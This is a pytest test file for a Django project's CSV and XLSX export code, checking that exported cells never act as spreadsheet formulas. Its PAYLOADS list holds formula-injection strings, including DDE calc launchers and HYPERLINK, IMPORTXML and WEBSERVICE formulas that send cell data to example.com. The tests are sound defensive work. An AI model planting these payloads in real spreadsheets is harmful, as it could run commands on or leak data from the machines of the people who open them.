import csv
import io
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from wimmentor.base.spreadsheets import Row, Table, read_table, write_csv, write_xlsx
from wimmentor.base.spreadsheets.guard import guard_cell, unguard_cell

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/c calc.exe'!Z0",
    "+1+1",
    "+51 999 123 456",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- first\n- second",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@example",
    '=HYPERLINK("http://www.example.com/x";"Minera Ñandú")',
    '=HYPERLINK("http://example.com?leak="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    '=IMPORTDATA("http://example.com")',
    '=WEBSERVICE("http://example.com")',
    '=DDE("cmd";"/C calc";"x")',
    "=10+20+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    '";=1+1;"',
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n@SUM(1)",
    "a;'=1+1",
    "a; \n+1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "=",
    "-",
    "--1",
    "-1e5",
    "#REF!",
    "{=1+1}",
    "%0A=1+1",
]
STARTS = tuple("=+-@＝＋－＠﹦﹢﹣﹫\t\r")


def written(rows: Sequence[Sequence[object]], headings: Sequence[object] = ("Text",)) -> bytes:
    return b"".join(write_csv(headings, rows))


def read(data: bytes, name: str) -> Table:
    return read_table(io.BytesIO(data), name)


def expected(text: str) -> str:
    return text.replace("\r\n", "\n").strip().strip("\ufeff")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_csv_is_a_formula(payload: str, delimiter: str) -> None:
    text = written([["before", payload, "after"]], ["A", payload, "C"]).decode("utf-8-sig")
    cells = [cell for record in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in record]
    assert [cell for cell in cells if cell.lstrip(' \u00a0"').startswith(STARTS)] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_is_read_back_equal(payload: str) -> None:
    assert read(written([["before", payload]], ["A", "B"]), "a.csv").rows == [Row(2, ("before", expected(payload)))]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_holds_text_and_is_read_back_equal(payload: str) -> None:
    data = write_xlsx(["A", payload], [["before", payload]])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [cell.data_type for row in sheet.iter_rows() for cell in row] in (["inlineStr"] * 4, ["s"] * 4)
    table = read(data, "a.xlsx")
    assert (table.headings[1], table.rows) == (expected(payload), [Row(2, ("before", expected(payload)))])


def test_xlsx_stays_text_when_edited() -> None:
    sheet = load_workbook(io.BytesIO(write_xlsx(["A"], [["=1+1"], ["plain"]]))).worksheets[0]
    assert [sheet["A2"].quotePrefix, sheet["A3"].quotePrefix] == [True, False]


def test_numbers_stay_numbers() -> None:
    values = [-5, 7.5, Decimal("-1.50"), "-5", "-3,5", True, None, float("nan")]
    assert written([values], list("ABCDEFGH")).decode("utf-8-sig") == (
        'A,B,C,D,E,F,G,H\r\n-5,7.5,-1.50,-5,"-3,5",yes,,\r\n'
    )
    sheet = load_workbook(io.BytesIO(write_xlsx(list("ABCDEFGH"), [values]))).worksheets[0]
    assert [cell.value for cell in sheet[2]][:6] == [-5, 7.5, -1.5, "-5", "-3,5", "yes"]


def test_dates_and_translatable_words() -> None:
    values = [date(2026, 3, 2), datetime(2026, 3, 2, 8, 48, 7, tzinfo=UTC), gettext_lazy("Running")]
    cells = ("2026-03-02", "2026-03-02T08:48:07+00:00", "Running")
    assert read(written([values], ["A", "B", "C"]), "a.csv").rows == [Row(2, cells)]
    assert read(write_xlsx(["A", "B", "C"], [values]), "a.xlsx").rows == [Row(2, cells)]


def test_csv_begins_with_a_mark_and_comes_in_pieces() -> None:
    pieces = list(write_csv(["A"], ([number] for number in range(1200))))
    assert pieces[0] == b"\xef\xbb\xbf"
    assert len(pieces) == 4
    assert len(read(b"".join(pieces), "a.csv").rows) == 1200


def test_headings_alone() -> None:
    assert read(written([], ["A", "B"]), "a.csv").headings == ["A", "B"]
    assert read(write_xlsx(["A", "B"], []), "a.xlsx").headings == ["A", "B"]


def test_what_xlsx_cannot_hold() -> None:
    long = "x" * 40_000
    values = ["a\x00b\x07c\ud800d\uffffe", long, "_x0041_ _x000D_", "line\nbreak", "<b>&"]
    table = read(write_xlsx(list("ABCDE"), [values], title="Pairs: 2026/27 [all] " + "x" * 40), "a.xlsx")
    cut = "x" * 32_763 + " […]"
    assert table.rows == [Row(2, ("abcde", cut, "_x0041_ _x000D_", "line\nbreak", "<b>&"))]


def test_csv_survives_half_letters_and_nul() -> None:
    assert read(written([["a\ud800b\x00c"]]), "a.csv").rows == [Row(2, ("a?bc",))]


@given(st.text(alphabet="=+-@'\";\t\n\r ax5＝"))
def test_removing_the_guard_restores_the_text(text: str) -> None:
    assert unguard_cell(guard_cell(text)) == text
